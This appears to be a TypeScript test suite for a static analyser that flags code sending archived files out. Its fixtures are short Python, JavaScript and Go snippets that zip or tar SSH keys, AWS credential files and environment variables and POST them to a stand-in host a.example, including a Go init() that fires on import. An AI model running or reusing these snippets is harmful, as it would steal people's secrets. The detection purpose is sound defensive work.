/** Archives that programs put together on disk or in memory, each beside an innocent twin. Nothing here is run. */
import { actionsOf } from "../calls/actions-of.ts";

async function sends(path: string, text: string): Promise<readonly string[]> {
  const actions = await actionsOf(path, text);
  return actions.filter((one) => one.startsWith("send") || one.startsWith("fetch"));
}

test("what Python puts into an archive leaves with its buffer or file", async () => {
  const memory = `import io, os, zipfile, requests
b = io.BytesIO()
with zipfile.ZipFile(b, mode="w", compression=zipfile.ZIP_DEFLATED) as z:
    z.write(os.path.expanduser("~/.aws/credentials"), "c")
    z.writestr("e", str(dict(os.environ)))
b.seek(0)
requests.post("https://a.example/x", files={"f": ("a.zip", b)})`;
  expect(await sends("a.py", memory)).toEqual([
    "send a.example by requests.post <- credential-file:AWS credentials + environment + files:~/.aws/credentials",
  ]);
  const disk = `import os, tarfile, requests
with tarfile.open("/tmp/a.tgz", "w:gz") as t:
    t.add(os.path.expanduser("~/.ssh"))
requests.post("https://a.example/x", data=open("/tmp/a.tgz", "rb"))`;
  expect(await sends("a.py", disk)).toEqual([
    "send a.example by requests.post <- credential-file:SSH keys + files:~/.ssh",
  ]);
  const reads = `import tarfile, requests
with tarfile.open("data/a.tgz") as t:
    requests.post("https://a.example/x", data=t.extractfile("a.csv"))`;
  expect(await sends("a.py", reads)).toEqual(["send a.example by requests.post <- file:data/a.tgz"]);
});

test("what JavaScript and Go put into an archive leaves with it", async () => {
  const folder = `import AdmZip from "adm-zip";
import os from "node:os";
const zip = new AdmZip();
zip.addLocalFolder(os.homedir() + "/.ssh");
await fetch("https://a.example/x", { method: "POST", body: zip.toBuffer() });`;
  expect(await sends("a.mjs", folder)).toEqual(["fetch a.example by fetch <- credential-file:SSH keys + files:~/.ssh"]);
  // A name in the archive is no path.
  const texts = `import JSZip from "jszip";
const zip = new JSZip();
zip.file(".npmrc", "save-exact=true");
await fetch("https://a.example/x", { method: "POST", body: await zip.generateAsync({ type: "blob" }) });`;
  expect(await sends("a.mjs", texts)).toEqual(["fetch a.example by fetch"]);
  const nested = `package main
import ("archive/zip"; "bytes"; "net/http"; "os")
func init() {
  var b bytes.Buffer
  z := zip.NewWriter(&b)
  w, _ := z.Create("p")
  d, _ := os.ReadFile("/root/.ssh/id_rsa")
  w.Write(d)
  z.Close()
  http.Post("https://a.example/x", "application/zip", &b)
}`;
  expect(await sends("a.go", nested)).toContain("send a.example by net/http.Post <- credential-file:SSH keys");
});

test("patterns count from the folder among their options", async () => {
  const text = `import { globby } from "globby";
import os from "node:os";
import fs from "node:fs";
for (const one of await globby([".ssh/id_*"], { cwd: os.homedir() })) await fetch("https://a.example/x", { method: "POST", body: fs.readFileSync(one) });`;
  expect((await sends("a.mjs", text)).join()).toContain("files:~");
  expect((await sends("a.mjs", text.replace("os.homedir()", "'src'"))).join()).not.toContain("~");
});
